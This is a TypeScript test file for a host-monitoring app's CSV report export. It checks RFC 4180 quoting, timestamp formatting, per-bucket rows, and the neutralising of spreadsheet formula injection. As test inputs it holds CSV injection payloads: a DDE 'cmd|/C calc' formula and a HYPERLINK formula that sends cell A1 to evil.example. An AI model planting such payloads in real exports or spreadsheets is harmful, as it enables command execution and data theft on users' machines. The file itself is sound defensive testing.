/** The report's CSV: RFC 4180 quoting, formula injection neutralised, rows checked against the appended samples. */
import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { Writable } from 'node:stream';
import { test, type TestContext } from 'node:test';
import { Attr } from '../../../shared/metrics.ts';
import fc from 'fast-check';
import { CSV_HEADER, attributesText, csvNumber, csvText, isoTimeFormatter, reportCsvChunks, writeReportCsv } from '../../../electron/core/reports/csv.ts';
import { buildReport } from '../../../electron/core/reports/gather.ts';
import { AlertRepository } from '../../../electron/core/store/alerts.ts';
import { openDatabase } from '../../../electron/core/store/database.ts';
import { SampleStore } from '../../../electron/core/store/samples.ts';
import { FROM, HOSTILE_FORMULA, HOSTILE_HTML, HOUR, MINUTE, NOW, T0, TO, minuteBuckets, seed, type Appended } from './seed.ts';

/** A strict RFC 4180 reader: CRLF records, quoted fields with doubled quotes; throws on anything else. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  for (;;) {
    let field = '';
    if (text[i] === '"') {
      i++;
      for (;;) {
        const q = text.indexOf('"', i);
        if (q < 0) throw new Error('unterminated quoted field');
        field += text.slice(i, q);
        i = q + 1;
        if (text[i] === '"') {
          field += '"';
          i++;
        } else break;
      }
    } else {
      let j = i;
      while (j < text.length && text[j] !== ',' && text[j] !== '\r' && text[j] !== '\n') {
        if (text[j] === '"') throw new Error(`quote inside an unquoted field at ${j}`);
        j++;
      }
      field = text.slice(i, j);
      i = j;
    }
    row.push(field);
    if (text[i] === ',') {
      i++;
      continue;
    }
    if (text.startsWith('\r\n', i)) {
      rows.push(row);
      row = [];
      i += 2;
      if (i === text.length) return rows;
      continue;
    }
    throw new Error(`expected , or CRLF at ${i}, found ${JSON.stringify(text[i])}`);
  }
}

async function csvOf(report: Parameters<typeof writeReportCsv>[0], samples: SampleStore, dir: string): Promise<string> {
  const file = path.join(dir, 'report.csv');
  await writeReportCsv(report, samples, fs.createWriteStream(file));
  return fs.readFileSync(file, 'utf8');
}

const FORMULA_START = /^[=+\-@\t\r\n\0]/;

test('text cells: quoted per RFC 4180, formulas neutralised with an apostrophe', () => {
  assert.equal(csvText('web-1'), 'web-1');
  assert.equal(csvText('a,b'), '"a,b"');
  assert.equal(csvText('say "hi"'), '"say ""hi"""');
  assert.equal(csvText('two\nlines'), '"two\nlines"');
  assert.equal(csvText("=cmd|' /C calc'!A0"), "'=cmd|' /C calc'!A0");
  assert.equal(csvText('+1'), "'+1");
  assert.equal(csvText('-2+3'), "'-2+3");
  assert.equal(csvText('@SUM(A1)'), "'@SUM(A1)");
  assert.equal(csvText('\tx'), "'\tx");
  assert.equal(csvText('\rx'), "\"'\rx\"");
  assert.equal(csvText('=HYPERLINK("http://x","y")'), '"\'=HYPERLINK(""http://x"",""y"")"');
  assert.equal(csvText(''), '');
  // Numbers stay numbers, negative ones too.
  assert.equal(csvNumber(-0.25), '-0.25');
  assert.equal(csvNumber(1234567.5), '1234567.5');
  assert.equal(attributesText({ 'system.device': 'eth0', 'network.io.direction': 'receive' }), 'network.io.direction=receive;system.device=eth0');
  assert.equal(attributesText({ 'system.filesystem.mountpoint': '/mnt/a;b=c%' }), 'system.filesystem.mountpoint=/mnt/a%3Bb%3Dc%25');
  assert.equal(attributesText({}), '');
});

test('times are written as Date.toISOString writes them', () => {
  const iso = isoTimeFormatter();
  // Runs of nearby times (the formatter's fast case) and far jumps, including the years' edges.
  fc.assert(fc.property(fc.array(fc.integer({ min: -8.64e15, max: 8.64e15 }), { maxLength: 50 }), fc.integer({ min: 0, max: 4e12 }), (times, base) => {
    for (const t of [...times, base, base + 999, base + 86_399_999, base + 86_400_000, 0, 253_402_300_799_999, 253_402_300_800_000]) {
      assert.equal(iso(t), new Date(t).toISOString());
    }
  }), { numRuns: 2000 });
});

test('one row per bucket and series, matching the appended samples; units in their column', async (t: TestContext) => {
  const s = await seed(t);
  const report = buildReport(s.sources, { from: FROM, to: TO }, NOW);
  const rows = parseCsv(await csvOf(report, s.samples, s.dir));
  assert.deepEqual(rows[0], [...CSV_HEADER]);
  const body = rows.slice(1);
  for (const r of body) assert.equal(r.length, CSV_HEADER.length);

  // Brute force: the series the CSV holds, from what was appended, in 1-minute buckets.
  const names = new Map(report.hosts.map((h) => [h.id, h.name]));
  const wanted = (a: Appended) => {
    if (!names.has(a.host)) return false;
    switch (a.metric) {
      case 'system.cpu.utilization': return !(Attr.cpu in a.attributes);
      case 'system.filesystem.usage': return a.attributes[Attr.filesystemState] === 'used';
      case 'system.filesystem.limit': return false;
      default: return true;
    }
  };
  const bySeries = new Map<string, Appended[]>();
  for (const a of s.appended) {
    if (!wanted(a)) continue;
    const key = [a.host, a.metric, attributesText(a.attributes)].join('|');
    let list = bySeries.get(key);
    if (!list) bySeries.set(key, (list = []));
    list.push(a);
  }
  const expected = new Map<string, { avg: number; min: number; max: number }>();
  for (const [key, list] of bySeries) {
    for (const b of minuteBuckets(list)) expected.set(`${key}|${b.t}`, b);
  }
  assert.equal(body.length, expected.size, 'one row per bucket and series');
  const units: Record<string, string> = {
    up: '{count}', 'system.uptime': 's', 'system.cpu.utilization': '1', 'system.network.io': 'By/s', 'system.filesystem.usage': 'By',
  };
  for (const [time, hostId, hostName, metric, attributes, unit, avg, min, max] of body) {
    const t = Date.parse(time!);
    assert.match(time!, /^\d{4}-\d\d-\d\dT\d\d:\d\d:00\.000Z$/);
    const want = expected.get([hostId, metric, attributes, t].join('|'));
    assert.ok(want, `a row for ${hostId} ${metric} ${attributes} ${time}`);
    assert.equal(hostName, names.get(hostId!));
    if (units[metric!]) assert.equal(unit, units[metric!]);
    assert.equal(Number(min), want.min);
    assert.equal(Number(max), want.max);
    assert.ok(Math.abs(Number(avg) - want.avg) <= 1e-3 * Math.abs(want.avg) + 1e-12, `${metric} avg ${avg} ≈ ${want.avg}`);
  }
  // The host named like markup is text like any other; the host with no data has no rows.
  assert.ok(body.some((r) => r[2] === HOSTILE_HTML));
  assert.ok(!body.some((r) => r[2] === `'${HOSTILE_FORMULA}`));
});

test('hostile host names and mount points cannot start a formula; negative values stay numbers', async (t: TestContext) => {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'hostwatch-csv-'));
  const db = openDatabase(path.join(dir, 'hostwatch.db'));
  t.after(() => {
    db.close();
    fs.rmSync(dir, { recursive: true, force: true });
  });
  const samples = new SampleStore(db);
  const hosts = [
    { id: 'evil', name: HOSTILE_FORMULA, kind: 'ssh' as const },
    { id: '+1', name: '@SUM(1+1)*cmd|" /C calc"!A0', kind: 'ssh' as const },
    { id: 'multi', name: 'web,1\r\n=2+3', kind: 'ssh' as const },
  ];
  const mount = '=HYPERLINK("http://evil.example/?"&A1,"click")';
  for (let time = T0; time < T0 + HOUR; time += 10_000) {
    for (const h of hosts) {
      samples.append({
        host: h.id, time, errors: [], samples: [
          { metric: 'up', attributes: {}, value: 1 },
          // Not a value a collector makes, but the store keeps what it gets: the CSV must write it as a number.
          { metric: 'system.cpu.utilization', attributes: {}, value: -0.25 },
          { metric: 'system.filesystem.utilization', attributes: { [Attr.mountpoint]: mount }, value: 0.5 },
        ],
      });
    }
  }
  samples.flush();
  const sources = { samples, alerts: new AlertRepository(db), hosts, version: 'test' };
  const report = buildReport(sources, { from: T0, to: T0 + HOUR }, T0 + HOUR + MINUTE);
  const text = await csvOf(report, samples, dir);
  const rows = parseCsv(text).slice(1);
  assert.ok(rows.length > 0);
  for (const row of rows) {
    for (const [i, cell] of row.entries()) {
      if (i >= 6) continue;
      assert.ok(!FORMULA_START.test(cell), `text cell ${JSON.stringify(cell)} cannot start a formula`);
    }
  }
  assert.ok(rows.some((r) => r[2] === `'${HOSTILE_FORMULA}`), 'the name is kept, behind an apostrophe');
  assert.ok(rows.some((r) => r[1] === "'+1" && r[2] === `'@SUM(1+1)*cmd|" /C calc"!A0`));
  assert.ok(rows.some((r) => r[2] === 'web,1\r\n=2+3'), 'a line break inside a quoted cell');
  assert.ok(rows.some((r) => r[4] === 'system.filesystem.mountpoint=%3DHYPERLINK("http://evil.example/?"&A1,"click")'));
  const cpu = rows.filter((r) => r[3] === 'system.cpu.utilization');
  assert.ok(cpu.length > 0);
  for (const r of cpu) assert.deepEqual(r.slice(6).map(Number), [-0.25, -0.25, -0.25]);
  // In the raw text a negative value is a bare number, not a quoted or prefixed string.
  assert.match(text, /,-0\.25,-0\.25,-0\.25\r\n/);
});

test('a range without data is a header alone; chunks stay small; a failing stream rejects', async (t: TestContext) => {
  const s = await seed(t);
  const empty = buildReport(s.sources, { from: T0 - 2 * HOUR, to: T0 - HOUR }, NOW);
  assert.equal(await csvOf(empty, s.samples, s.dir), `${CSV_HEADER.join(',')}\r\n`);

  const report = buildReport(s.sources, { from: FROM, to: TO }, NOW);
  let chunks = 0;
  for (const chunk of reportCsvChunks(report, s.samples)) {
    chunks++;
    assert.ok(chunk.length < (1 << 16) + 1000, 'a chunk is about 64 KiB');
  }
  assert.ok(chunks > 3);

  const failing = new Writable({ write: (_chunk, _encoding, callback) => callback(new Error('ENOSPC: no space left on device')) });
  await assert.rejects(writeReportCsv(report, s.samples, failing), /ENOSPC/);
});
